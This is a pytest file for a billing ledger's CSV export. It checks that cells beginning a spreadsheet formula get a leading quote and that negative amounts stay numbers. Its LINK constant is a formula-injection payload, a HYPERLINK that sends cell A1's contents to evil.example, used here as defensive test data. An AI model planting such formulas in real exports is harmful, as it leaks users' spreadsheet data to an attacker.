"""CSV exports neutralize cells a spreadsheet would run as a formula
(DESIGN.md "Trust between the parties"; core/csv_export.py formula_safe):
a leading ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading
``'``; plain numbers, negative amounts included, stay numbers."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from billing.settlement import contract_settle
from core.csv_export import FORMULA_STARTS, cell
from ledger import services
from ledger.models import OutcomeStatus
from ledger.rollups import rollups_refresh
from tests.billing.test_statement_html import calls_ingest, november, outcomes_ingest
from tests.conftest import client_for
from tests.factories import api_key_create

__all__ = ["november"]  # the contract of test_statement_html, with November settled

CONTRACT = "/api/v1/contracts/acme-agent"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile(november):
    """A call and an outcome whose external id, task type and task ref are
    formulas (the outcome's task_ref is its external id)."""
    calls_ingest(november, [(LINK, "2026-11-04T09:00:00Z", "gpt-4o-mini", LINK, "0.001")])
    outcomes_ingest(november, [(LINK, "2026-11-04T18:00:00Z", "task_completed", LINK, "1")])
    return client_for(api_key_create(organization=november.customer, role="customer"))


def test_a_formula_in_a_calls_external_id_and_task_type_leaves_as_text(hostile):
    rows = csv_rows(hostile.get(f"{CONTRACT}/calls?format=csv"))

    row = next(row for row in rows if row["external_id"].endswith(LINK))
    assert (row["external_id"], row["task_type"]) == ("'" + LINK, "'" + LINK)
    assert row["cost_usd"] == "0.0010000000"


def test_a_formula_in_an_outcomes_external_id_task_type_and_task_ref_leaves_as_text(hostile):
    rows = csv_rows(hostile.get(f"{CONTRACT}/outcomes?format=csv"))

    row = next(row for row in rows if row["external_id"].endswith(LINK))
    assert (row["external_id"], row["task_type"], row["task_ref"]) == ("'" + LINK,) * 3
    assert row["value"] == "40.0000000000"


def test_the_json_keeps_the_text_as_it_was_stored(hostile):
    calls = hostile.get(f"{CONTRACT}/calls", {"task_type": LINK}).json()["results"]

    assert [(c["external_id"], c["task_type"]) for c in calls] == [(LINK, LINK)]


def test_negative_amounts_of_an_adjustment_stay_plain_numbers_in_the_statements_csv(november):
    """Rejecting November's o1 after settlement: the adjustment takes back its
    fee (0.99) and value (40)."""
    for status in (OutcomeStatus.DISPUTED, OutcomeStatus.REJECTED):
        services.outcome_status_change(
            contract=november, external_id="o1", to_status=status, actor="t", reason="r"
        )
    rollups_refresh()
    contract_settle(contract_id=november.id, as_of=datetime(2026, 12, 11, tzinfo=UTC))
    client = client_for(api_key_create(organization=november.customer, role="customer"))

    rows = csv_rows(client.get(f"{CONTRACT}/statements?format=csv"))

    assert [(r["number"], r["outcome_fees"], r["value"]) for r in rows] == [
        ("1", "2.97", "345.00"),
        ("2", "-0.99", "-40.00"),
    ]


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "=", "-1.5e3"]
)
def test_every_formula_start_gets_a_leading_quote(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-1.5000000000", "-40.00", "+3", "0.99", "-7"])
def test_a_plain_number_as_text_stays_a_number(number):
    assert cell(number) == number


def test_a_negative_decimal_stays_a_number():
    assert cell(Decimal("-1.5000000000")) == "-1.5000000000"


@given(st.text())
def test_no_text_cell_starts_a_formula_unless_it_is_a_plain_number(text: str):
    out = cell(text)

    if out.startswith(FORMULA_STARTS):
        assert out == text
        assert Decimal(out) == Decimal(text)
    else:
        assert out in (text, "'" + text)
